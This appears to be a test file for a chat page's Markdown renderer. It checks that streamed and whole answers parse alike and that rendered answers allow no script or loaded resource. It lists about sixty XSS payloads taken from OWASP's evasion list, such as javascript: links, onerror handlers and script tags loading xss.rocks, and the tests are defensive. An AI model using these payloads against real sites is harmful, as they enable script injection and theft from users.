/** Answers as Markdown: no element or attribute that runs or loads anything, the text that a browser would show, and the same while it streams. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { MarkdownBlocks } from "../page/views/markdown-blocks.js";
import { ask, nextAnswer, openPage } from "./demo-page.js";
import { inBrowsers, until, type Tab } from "./driver.js";
import { fakeWorker } from "./fake-worker.js";
import { startSite, type Site } from "./site.js";

const JS = "javascript:window.hacked=1";
const RUN = "window.hacked=1";
/** Attempts to run a script or to load something, by OWASP's list (XSS Filter Evasion) and by Markdown's own ways. */
const PAYLOADS = [
  ...[JS, "JaVaScRiPt:window.hacked=1", " javascript:window.hacked=1", "java\tscript:window.hacked=1", `javascript://%0a${RUN}`],
  ...["&#106;avascript:window.hacked=1", "&#x6A;avascript:window.hacked=1", "vbscript:msgbox(1)", "data:text/html,<script>1</script>"],
  ...[
    "//elsewhere.example",
    "http://elsewhere.example",
    "blob:x",
    "file:///etc/passwd",
    "%6aavascript:alert(1)",
    "javascript&colon;alert(1)",
  ],
].map((address) => `[here](${address})`);
PAYLOADS.push(
  ...PAYLOADS.slice(0, 6).map((link) => `!${link}`),
  `<${JS}>`,
  `[a]: ${JS}\n\n[a]`,
  `[a](<${JS}>)`,
  `[a](https://x.example "t\\" onclick=${RUN} x=\\"")`,
  `[a](https://x.example/"onmouseover="${RUN}")`,
  `[![a](x)](${JS})`,
  `**[a](${JS})**`,
  `- [x] [a](${JS})`,
  `|[a](${JS})|<img src=x onerror=${RUN}>|\n|-|-|\n|<b onclick=${RUN}>c</b>|d|`,
  `\`\`\`html" onclick="${RUN}\n<img src=x onerror=${RUN}>\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `    <script>${RUN}</script>`,
  `# <svg onload=${RUN}>`,
  `> <iframe srcdoc="<script>parent.hacked=1</script>">`,
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
  `<IMG SRC="${JS};">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="${RUN}">`,
  `<IMG SRC=/ onerror="${RUN}"></img>`,
  `<SCRIPT/XSS SRC="https://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${RUN}>`,
  `<<SCRIPT>${RUN};//\\<</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="${JS};">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<LINK REL="stylesheet" HREF="${JS};">`,
  `<STYLE>@import'https://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=${JS};">`,
  `<TABLE BACKGROUND="${JS}">`,
  `<DIV STYLE="background-image: url(${JS})">`,
  `<BASE HREF="${JS};//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<math><a xlink:href="${JS}">x</a></math>`,
  `<form><button formaction=${JS}>x</button></form>`,
  `<video><source onerror=${RUN}></video>`,
  `<template><script>${RUN}</script></template>`,
  `text <!-- --!><img src=x onerror=${RUN}> -->`,
);

/** Texts with every kind of block, and ends in the middle of them. */
const DOCUMENTS = [
  "# A title\n\nSome *words* and **more** `code`\nsecond line  \nbroken line\n\n- one\n- two\n\n  inside two\n\n- three\n\n1. first\n2. second\n   - deep\n\nafter",
  "A paragraph\n===\n\nanother\n---\n\n```js\nlet x = 1;\n\n# no title\n```\n\n> quoted\n> more\n\nlazy\n\n***\n\nend",
  "| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |\n\ntext\n\n    code by spaces\n\n    more code\n\n[a link](https://x.example) and <https://y.example> and ~~gone~~",
  "* a\n\n\n* b\n\ntext\n\n[a]: https://x.example\n\n[a] stays\r\n\r\nwindows\r\n\r\n- [ ] open\n- [x] done\n\n<div>\nraw\n</div>\n\n&lt;tag&gt; &amp; ![alt](x.png)",
];

test("a text that streams has the same blocks as the whole text, at every letter", () => {
  const shape = (tokens: readonly unknown[]) =>
    JSON.stringify(tokens, (key, value: unknown) => (key === "raw" ? undefined : value)).replaceAll(',{"type":"space"}', "");
  for (const text of DOCUMENTS) {
    const growing = new MarkdownBlocks();
    for (let end = 1; end <= text.length; end++) {
      const part = text.slice(0, end);
      assert.equal(shape(growing.of(part).flat()), shape(new MarkdownBlocks().of(part).flat()), JSON.stringify(part));
    }
  }
});

test("finished groups of blocks stay the same objects while a text streams", () => {
  const growing = new MarkdownBlocks();
  let [before, text]: [readonly unknown[], string] = [[], ""];
  for (let paragraph = 0; paragraph < 500; paragraph++) {
    text += `Paragraph ${paragraph}.\n\n`;
    const groups = growing.of(text);
    // The last one is not full, or its last block may still grow.
    assert.ok(before.slice(0, -1).every((group, index) => group === groups[index]));
    before = groups;
  }
  assert.ok(before.length < 40, `${before.length} groups`);
  assert.equal(growing.of("Another text.").flat().length, 1);
});

interface Oracles {
  marked: { Marked: new (options: object) => { parse(text: string): string } };
  DOMPurify: { sanitize(html: string, options: object): string };
}

inBrowsers("Markdown", (browser) => {
  let site: Site;
  let tab: Tab;
  before(async () => {
    site = await startSite();
    tab = await browser().newTab();
    await tab.beforeLoad(fakeWorker);
    await openPage(tab, site.url);
    await ask(tab, "say: **first**");
    await until(tab, "Markdown is there", () => document.querySelector("#log .words strong") !== null);
    await tab.run(async () => {
      for (const src of ["test/marked.js", "test/purify.js"]) {
        const script = document.createElement("script");
        script.src = src;
        document.head.append(script);
        await new Promise((resolve) => (script.onload = resolve));
      }
    });
  });
  after(async () => {
    await tab?.close();
    await site?.stop();
  });

  /** The elements and the text of an answer, and the text that DOMPurify leaves of marked's markup for it. */
  async function shown(text: string): Promise<{ elements: string[]; text: string; oracle: string; links: string[] }> {
    await tab.click("#new-conversation");
    await ask(tab, `say: ${text}`);
    await nextAnswer(tab);
    return tab.run((text) => {
      const { marked, DOMPurify } = window as unknown as Oracles;
      const escaped = (raw: string) => raw.replace(/&/g, "&amp;").replace(/</g, "&lt;");
      // Raw markup and pictures are text in the page.
      const renderer = {
        html: ({ raw, block }: { raw: string; block?: boolean }) => (block ? `<p>${escaped(raw.trim())}</p>` : escaped(raw)),
        image: ({ text }: { text: string }) => text.replace(/</g, "&lt;"),
        checkbox: ({ checked }: { checked: boolean }) => (checked ? "☑ " : "☐ "),
      };
      const parser = new marked.Marked({ renderer, tokenizer: { def: () => undefined } });
      const clean = DOMPurify.sanitize(parser.parse(text.trim()), {
        ALLOWED_TAGS: "h1 h2 h3 h4 h5 h6 p ul ol li table thead tbody tr th td blockquote pre code strong em del a br hr".split(" "),
        ALLOWED_ATTR: ["href"],
      });
      const words = document.querySelector("#log .turn.model .words");
      const all = [...(words?.querySelectorAll("*") ?? [])];
      return {
        elements: all.flatMap((one) => [one.localName, ...[...one.attributes].map(({ name }) => `${one.localName}[${name}]`)]),
        links: [...(words?.querySelectorAll("a") ?? [])].map((a) => `${a.protocol} ${a.rel} ${a.target}`),
        text: (words?.textContent ?? "").replace(/\s+/g, ""),
        oracle: (new DOMParser().parseFromString(clean, "text/html").body.textContent ?? "").replace(/\s+/g, ""),
      };
    }, text);
  }

  const ALLOWED =
    /^(h[456]|p|ul|ol|li|table|thead|tbody|tr|th|td|blockquote|pre|code|strong|em|del|br|hr|a|a\[(href|rel|target)\]|ol\[start\])$/;

  test("no attempt runs, loads or shows an element beyond the allowed ones", async () => {
    assert.ok(PAYLOADS.length >= 60, `${PAYLOADS.length}`);
    for (const payload of PAYLOADS) {
      const { elements, links, text, oracle } = await shown(payload);
      for (const element of elements) assert.match(element, ALLOWED, payload);
      for (const link of links) assert.match(link, /^(https|mailto): noreferrer _blank$/, payload);
      assert.equal(text, oracle, payload);
    }
    assert.equal(await tab.run(() => "hacked" in window), false);
    assert.deepEqual(tab.faults, []);
    assert.deepEqual(
      [...site.requests.keys()].filter((path) => /xss|x\.png/.test(path)),
      [],
    );
  });

  test("a whole text has the elements that it asks for", async () => {
    const all = await Promise.resolve(DOCUMENTS.join("\n\n---\n\n"));
    const { elements, text, oracle } = await shown(all);
    for (const name of "h4 h5 p ul ol li table th td blockquote pre code strong em del a br hr".split(" "))
      assert.ok(elements.includes(name), `${name} is not among ${[...new Set(elements)].join(" ")}`);
    assert.equal(text, oracle);
  });
});
